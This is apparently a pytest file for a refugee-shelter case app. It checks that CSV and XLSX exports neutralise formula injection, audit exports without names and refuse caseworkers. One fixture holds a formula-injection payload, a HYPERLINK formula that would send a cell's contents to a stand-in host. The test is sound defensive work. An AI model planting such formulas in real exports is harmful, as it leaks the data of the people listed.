"""A coordinator exports the case list she is looking at; nothing in it can run as a
formula, and the audit log says that it left, never whose names were in it."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from shelter_desk.domain.cases import CaseStatus
from shelter_desk.domain.errors import InvalidInput, NotAllowed
from shelter_desk.domain.people import PersonDetails
from shelter_desk.domain.staff import Role
from shelter_desk.services import cases, staff
from shelter_desk.services.list_export import export_case_list
from shelter_desk.store import audit
from shelter_desk.store.case_queries import CaseFilter
from shelter_desk.store.vault import unlock

TRAP = '=HYPERLINK("http://example.invalid/?x="&A1,"clic")'


@pytest.fixture
def shelter(created):
    vault = created.vault
    cases.open_case(vault, PersonDetails(given_names=TRAP, family_names="Ramos",
                                         nationality="HN", birth_date=date(1990, 1, 2)))
    cases.open_case(vault, PersonDetails(given_names="+Karla", family_names="-Guevara",
                                         nationality="SV"))
    closed = cases.open_case(vault, PersonDetails(given_names="@Sofía", family_names="Paz",
                                                  nationality="GT")).value
    cases.close_case(vault, closed.id)
    return vault


def _exports(vault):
    with vault.read() as connection:
        return [e for e in audit.events(connection) if e.action == "case_list.exported"]


def test_formulas_are_neutralised_in_csv_and_xlsx(shelter, tmp_path):
    # GIVEN names typed as formulas, WHEN a coordinator exports the list both ways
    assert export_case_list(shelter, CaseFilter(), "csv", tmp_path / "lista.csv") == 3
    assert export_case_list(shelter, CaseFilter(), "xlsx", tmp_path / "lista.xlsx") == 3

    # THEN in the CSV every such cell starts with an apostrophe
    rows = list(csv.reader(io.StringIO((tmp_path / "lista.csv").read_text("utf-8-sig"))))
    assert rows[0][:3] == ["Expediente", "Nombre", "Nacionalidad"]
    names = {row[1] for row in rows[1:]}
    assert f"'{TRAP} Ramos" in names and "'+Karla -Guevara" in names and "'@Sofía Paz" in names
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    # ... and in the XLSX, read back, no cell is a formula: each is the text
    sheet = load_workbook(tmp_path / "lista.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert f"'{TRAP} Ramos" in [cell.value for cell in cells]
    assert "Honduras" in [cell.value for cell in cells]


def test_the_export_follows_the_filters_and_is_audited_without_names(shelter, tmp_path):
    count = export_case_list(shelter, CaseFilter(status=CaseStatus.CLOSED, text="sofia"),
                             "csv", tmp_path / "cerrados.csv", language="en")
    assert count == 1
    rows = list(csv.reader(io.StringIO((tmp_path / "cerrados.csv").read_text("utf-8-sig"))))
    assert rows[0][0] == "Case file" and rows[1][3] == "Closed"
    summaries = [e.summary for e in _exports(shelter)]
    assert summaries == ["csv: rows 1; filters: text,status"]
    assert not list(tmp_path.glob(".*partial"))


def test_a_caseworker_is_refused_and_the_refusal_is_audited(shelter, vault_dir, tmp_path):
    staff.add_staff(shelter, "Trabajadora Prueba", Role.CASEWORKER, "frase de trabajo")
    with (unlock(vault_dir, user="Trabajadora Prueba", passphrase="frase de trabajo") as worker,
          pytest.raises(NotAllowed) as refused):
        export_case_list(worker, CaseFilter(), "xlsx", tmp_path / "no.xlsx")
    assert "coordinadora" in refused.value.message.es
    assert not (tmp_path / "no.xlsx").exists()
    with shelter.read() as connection:
        denied = [e for e in audit.events(connection) if e.action == "access.denied"]
    assert [(e.entity_type, e.summary) for e in denied] == [("case_list",
                                                              "export (caseworker)")]
    assert _exports(shelter) == []


def test_an_unwritable_destination_leaves_no_file_and_no_audit_row(shelter, tmp_path):
    with pytest.raises(InvalidInput):
        export_case_list(shelter, CaseFilter(), "csv", tmp_path / "falta" / "lista.csv")
    assert _exports(shelter) == []
    with pytest.raises(InvalidInput):
        export_case_list(shelter, CaseFilter(), "pdf", tmp_path / "lista.pdf")
